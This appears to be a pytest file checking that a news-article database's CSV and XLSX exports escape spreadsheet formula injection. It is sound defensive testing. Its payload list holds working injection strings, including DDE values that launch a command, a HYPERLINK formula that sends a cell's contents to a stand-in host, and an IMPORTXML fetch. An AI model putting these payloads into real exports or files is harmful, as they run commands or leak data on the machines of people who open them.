"""Texts that a spreadsheet would run: text cells for a reader, and the same again after reading."""

import csv
import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from storage import Database, open_database
from storage.export.export import export
from storage.export.formats.csv_format import unescape_formula
from storage.records import Article

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = [
    "=1+1", '=HYPERLINK("http://x.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "'=1+1", "''=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=IMPORTXML("http://x.example","//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1;x", '"=1+1', "{=1+1}",
]  # fmt: skip


@pytest.fixture
def rows(tmp_path: Path) -> tuple[Path, Database]:
    database = open_database(f"sqlite:///{tmp_path / 'nkwire.db'}")
    database.save(
        [
            Article(
                outlet=f"o{n}",
                url=f"https://outlet.test/{n}",
                title=words,
                text=f"{words}\nSecond line {n}.",
                language="en",
            )
            for n, words in enumerate(PAYLOADS)
        ]
    )
    return tmp_path, database


@pytest.mark.threats("S16")
def test_a_table_of_text_holds_no_cell_that_runs(rows: tuple[Path, Database]) -> None:
    folder, database = rows
    export(database, folder / "a.csv", format="csv")
    with (folder / "a.csv").open(encoding="utf-8", newline="") as file:
        read = list(csv.DictReader(file))
    cells = [cell for row in read for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r＝＋－＠")]
    assert [unescape_formula(row["title"]) for row in read] == PAYLOADS
    assert [unescape_formula(row["text"]).split("\n")[0] for row in read] == PAYLOADS
    database.close()


@pytest.mark.threats("S16")
def test_a_workbook_holds_no_formula_no_link_and_no_shared_function(
    rows: tuple[Path, Database],
) -> None:
    folder, database = rows
    export(database, folder / "a.xlsx", format="xlsx")
    with zipfile.ZipFile(io.BytesIO((folder / "a.xlsx").read_bytes())) as archive:
        names = archive.namelist()
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    assert not [name for name in names if "external" in name or "vba" in name]
    assert not list(sheet.iter(f"{MAIN}f"))
    assert not list(sheet.iter(f"{MAIN}hyperlink"))
    texts = {each.text for each in sheet.iter(f"{MAIN}t")}
    assert set(PAYLOADS) <= texts
    database.close()
